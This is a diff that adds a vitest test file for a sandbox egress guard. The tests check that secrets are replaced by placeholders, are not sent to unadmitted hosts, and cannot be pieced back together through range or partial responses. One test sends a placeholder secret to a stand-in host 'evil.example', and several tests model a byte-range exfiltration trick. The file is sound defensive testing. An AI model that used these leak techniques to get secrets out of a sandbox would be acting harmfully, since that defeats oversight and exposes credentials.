@@ -1,0 +1,117 @@
+import { Readable } from 'node:stream'
+import { text } from 'node:stream/consumers'
+import { describe, expect, test } from 'vitest'
+import { placeholder, refusalOf, setUpGuard } from '../../lib/testing/setup/egress-guard.ts'
+
+const egress = setUpGuard()
+const { admit, ask, urlOf } = egress
+
+describe('a request', () => {
+  test('carries a secret to its host, and an echo of it is replaced by the placeholder', async () => {
+    admit()
+    const arrived: string[] = []
+    egress.answer = async (request, response) => {
+      const brought = [request.url, request.headers.authorization, await text(request)].join(' ')
+      arrived.push(brought)
+      response.writeHead(200, { 'x-echo': brought, 'content-length': brought.length }).end(brought)
+    }
+    const sent = { method: 'POST', headers: { authorization: `Bearer ${placeholder}` } }
+    const there = await ask(urlOf('api.example', `/?k=${placeholder}`), {
+      ...sent,
+      body: Readable.from([placeholder]),
+    })
+    const elsewhere = await ask(urlOf('evil.example', `/?k=${placeholder}`), {
+      ...sent,
+      body: Readable.from([placeholder]),
+    })
+
+    const harmless = `/?k=${placeholder} Bearer ${placeholder} ${placeholder}`
+    expect(arrived).toEqual(['/?k=s3cret-value Bearer s3cret-value s3cret-value', harmless])
+    expect([there.headers['x-echo'], await text(there)]).toEqual([harmless, harmless])
+    expect(await text(elsewhere)).toBe(harmless)
+  })
+
+  describe('to a host that receives a secret', () => {
+    /** Serves ranges of the last uploaded text, `stored`, as most servers do. */
+    const store = () => {
+      const file = { stored: '', requests: 0 }
+      egress.answer = async (request, response) => {
+        file.requests += 1
+        if (request.method === 'PUT') {
+          file.stored = await text(request)
+          return void response.end('stored')
+        }
+        const range = request.headers.range ?? request.headers['request-range'] ?? request.url?.split('?')[1]
+        const [, from, to] = /bytes=(\d+)-(\d+)/.exec(String(range)) ?? []
+        if (from === undefined) return void response.end(file.stored)
+        const part = file.stored.slice(Number(from), Number(to) + 1)
+        const contentRange = `bytes ${from}-${to}/${file.stored.length}`
+        response.writeHead(206, { 'content-range': contentRange }).end(part)
+      }
+      return file
+    }
+    /** Returns what code in the sandbox can read of the stored file, requested part by part. */
+    const assemble = async (
+      askFor: (range: string) => { rest?: string; headers?: Record<string, string> },
+    ) => {
+      const file = store()
+      await ask(urlOf('api.example', '/file'), { method: 'PUT', body: Readable.from([placeholder]) })
+      expect(file.stored).toBe('s3cret-value')
+      const parts: string[] = []
+      const refusals = new Set<string>()
+      for (let at = 0; at < 12; at += 4) {
+        const { rest = '/file', headers } = askFor(`bytes=${at}-${at + 3}`)
+        const response = await ask(urlOf('api.example', rest), { headers })
+        refusals.add(refusalOf(response))
+        parts.push(await text(response))
+      }
+      return { assembled: parts.join(''), refusals: [...refusals], requests: file.requests - 1 }
+    }
+
+    // biome-ignore format: table
+    test.each([['range'], ['if-range'], ['request-range'], ['a-im']])(
+      'is refused when %s asks for a part, before it is sent', async (name) => {
+        admit()
+        const { assembled, refusals, requests } = await assemble((range) => ({ headers: { range, [name]: range } }))
+
+        expect(requests).toBe(0)
+        expect(assembled).not.toContain('s3cr')
+        expect(refusals).toEqual([expect.stringMatching(/^api\.example receives a secret .* partial responses/)])
+      },
+    )
+
+    test('is refused when the host answers with a part on its own account', async () => {
+      admit()
+      const { assembled, refusals } = await assemble((range) => ({ rest: `/file?${range}` }))
+
+      expect(assembled).not.toContain('s3cr')
+      expect(refusals).toEqual([expect.stringContaining('partial response (status 206)')])
+    })
+
+    test.each([226, 200])('is refused when status %i comes with a range', async (status) => {
+      admit()
+      egress.answer = (_request, response) =>
+        response.writeHead(status, { 'content-range': 'bytes 0-3/12' }).end('s3cr')
+
+      expect(refusalOf(await ask(urlOf('api.example')))).toContain('its partial response')
+    })
+
+    test('may ask for parts of other hosts’ answers', async () => {
+      admit()
+      egress.answer = (_request, response) =>
+        response.writeHead(206, { 'content-range': 'bytes 0-1/9' }).end('ab')
+      const response = await ask(urlOf('other.example'), { headers: { range: 'bytes=0-1' } })
+
+      expect([response.statusCode, await text(response)]).toEqual([206, 'ab'])
+    })
+
+    test('is answered without it in the names of headers', async () => {
+      admit()
+      egress.answer = (_request, response) => response.writeHead(200, { 'x-s3cret-value': 'here' }).end()
+      const { headers } = await ask(urlOf('api.example'))
+
+      expect(Object.keys(headers).join()).not.toContain('s3cret-value')
+      expect(headers).toMatchObject({ [`x-${placeholder}`.toLowerCase()]: 'here' })
+    })
+  })
+})
